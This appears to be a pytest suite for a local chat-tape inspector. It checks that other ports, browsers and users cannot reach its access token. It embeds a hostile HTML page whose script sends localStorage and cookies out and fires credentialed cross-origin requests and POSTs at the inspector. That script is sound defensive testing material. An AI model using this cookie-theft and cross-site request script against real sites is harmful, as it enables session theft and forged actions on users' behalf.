"""Neighbours of the inspector: other servers of the machine, other users of it, other pages of the browser."""

from __future__ import annotations

import contextlib
import http.server
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from support.backends import Backend
from support.browsing import PATIENCE, Site, Visit, served

import tape

HOSTILE = """<!doctype html><title>hostile</title><script>
const site = "SITE";
const secrets = JSON.stringify([Object.entries(localStorage), document.cookie]);
const loads = [
  fetch("/mine?" + encodeURIComponent(secrets), { credentials: "include" }),
  fetch(site + "/t/trip", { credentials: "include", mode: "no-cors" }),
  fetch(site + "/t/trip", { credentials: "include", headers: { accept: "application/json" } }),
  fetch(site + "/t/trip/act", { method: "POST", credentials: "include", body: "{}", mode: "no-cors" }),
  fetch(site + "/enter", { method: "POST", credentials: "include", mode: "no-cors" }),
];
for (const name of ["img", "script", "iframe"]) {
  const element = document.createElement(name);
  element.src = site + "/t/trip";
  document.documentElement.append(element);
}
Promise.allSettled(loads).then(async (results) => {
  const texts = await Promise.all(results.slice(1).map((each) => each.value?.text().catch(() => "") ?? ""));
  window.stolen = texts.join("");
});
</script>"""


class Hostile:
    """A server on another port of the same host, which keeps all that browsers send to it."""

    def __init__(self, site: Site) -> None:
        self.received: list[str] = []
        body = HOSTILE.replace("SITE", site.url).encode()
        hostile = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hostile.received.append(f"{self.path}\n{self.headers}")
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("set-cookie", "tape=tossed; Path=/")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/"

    def __enter__(self) -> Hostile:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def trip(quick: Backend) -> Iterator[tape.Store]:
    """A store with one tape."""
    with quick.open() as store:
        chat = store.create("trip", name="Two days in Lisbon")
        chat.append(role="user", content="Plan two days in Lisbon.")
        yield store


def arrived(page: Any) -> str:
    """Return the heading of a page that is ready."""
    page.wait_for_function("() => 'ready' in document.documentElement.dataset")
    return str(page.locator("h1").inner_text())


class TestOtherServers:
    def test_a_server_on_another_port_gets_nothing_that_opens_the_inspector(
        self, browser: Any, trip: tape.Store
    ) -> None:
        """Neither what the browser sends it nor what its page can read or load has the secret or any data."""
        context = browser.new_context()
        with contextlib.closing(context), served(trip, write=True) as site, Hostile(site) as hostile:
            page = context.new_page()
            page.goto(f"{site.url}/t/trip#token={site.access.token}")
            assert arrived(page) == "Two days in Lisbon"
            assert context.cookies() == []
            other = context.new_page()
            other.goto(hostile.url)
            other.wait_for_function("() => window.stolen !== undefined")
            assert len(hostile.received) >= 2
            assert [each for each in hostile.received if site.access.secret in each] == []
            assert "Lisbon" not in other.evaluate("window.stolen")
            for request in hostile.received:
                headers = dict(re.findall(r"^([\w-]+): (.*)$", request, re.M))
                replayed = {name.lower(): value for name, value in headers.items() if name.lower() != "host"}
                assert site.ask("/t/trip", known=False, **(replayed | {"accept": "application/json"})).status == 401
            assert trip.get("trip").info().head == 2
            # Nor does what that server sets in the browser lock anyone out.
            page.reload()
            assert arrived(page) == "Two days in Lisbon"


class TestOneBrowser:
    def test_reload_new_tab_and_copied_links_work_and_another_browser_is_refused(
        self, browser: Any, trip: tape.Store
    ) -> None:
        """The link opens one browser for good; no address in it has a secret."""
        context = browser.new_context()
        with contextlib.closing(context), served(trip) as site:
            link = f"{site.url}/t/trip@2#token={site.access.token}"
            page = context.new_page()
            page.goto(link)
            assert arrived(page) == "Two days in Lisbon"
            assert page.url == f"{site.url}/t/trip@2"
            page.reload()
            assert arrived(page) == "Two days in Lisbon"
            page.get_by_role("link", name="#2").click()
            page.wait_for_url("**/e/trip/2")
            arrived(page)
            copied = page.url
            page.go_back()
            assert arrived(page) == "Two days in Lisbon"
            tab = context.new_page()
            tab.goto(copied)
            assert arrived(tab) == "Two days in Lisbon"
            # The link again, in the same browser and in another one.
            tab.goto(site.url)
            tab.goto(link)
            assert arrived(tab) == "Refused"
            with contextlib.closing(browser.new_context()) as stranger:
                other = stranger.new_page()
                for address in (link, copied, site.url):
                    other.goto("about:blank")
                    other.goto(address)
                    assert arrived(other) == "Refused"
                    assert "tape serve" in other.locator("main").inner_text()
                    assert "Lisbon" not in other.content()

    def test_an_entry_is_saved_as_a_file(self, browser: Any, trip: tape.Store) -> None:
        """The file has the whole entry, though no link can carry the secret."""
        with served(trip) as site, Visit(browser, site) as visit:
            visit.wrong = []
            page = visit.go("/e/trip/2")
            with page.expect_download() as started:
                page.get_by_role("button", name="Save the whole entry").click()
            assert started.value.suggested_filename == "entry-2.json"
            assert Path(started.value.path()).read_bytes() == site.ask("/e/trip/2/raw").body


BROWSER = """import os, stat, sys, time, urllib.parse
address = sys.argv[1]
file = urllib.parse.urlsplit(address).path
modes = [stat.S_IMODE(os.stat(path).st_mode) for path in (file, os.path.dirname(file))]
with open(sys.argv[2] + ".new", "w") as seen:
    print(address, *map(oct, modes), open(file).read(), file=seen)
os.rename(sys.argv[2] + ".new", sys.argv[2])
"""


class TestOtherUsers:
    def test_open_shows_the_token_to_no_other_user(self, browser: Any, trip: tape.Store, tmp_path: Path) -> None:
        """The browser gets the address of a file that only its user can read, and that is removed after use."""
        script, seen = tmp_path / "browser.py", tmp_path / "seen"
        script.write_text(BROWSER)
        store = tmp_path / "agent.db"
        trip.backup(store)
        program = f"{sys.executable} {script} %s {seen}"
        command = [sys.executable, "-m", "tape.command", "--store", str(store), "open", "trip"]
        serving = subprocess.Popen(command, env=os.environ | {"BROWSER": program}, stderr=subprocess.PIPE, text=True)
        try:
            assert serving.stderr is not None
            link = serving.stderr.readline().strip()
            token = urlsplit(link).fragment.removeprefix("token=")
            assert len(token) > 30
            until = time.monotonic() + PATIENCE
            while not seen.exists() and time.monotonic() < until:
                time.sleep(0.02)
            address, file_mode, folder_mode, content = seen.read_text().split(" ", 3)
            file = Path(urlsplit(address).path)
            assert (token in address, link in content) == (False, True)
            assert (file_mode, folder_mode, file.exists()) == ("0o600", "0o700", True)
            with contextlib.closing(browser.new_context()) as context:
                page = context.new_page()
                page.goto(address)
                page.wait_for_url("**/t/trip")
                assert arrived(page) == "Two days in Lisbon"
                assert not file.exists()
            serving.send_signal(signal.SIGINT)
            serving.wait(PATIENCE)
            assert not file.parent.exists()
        finally:
            serving.kill()
            serving.wait()
            assert serving.stderr is not None
            serving.stderr.close()
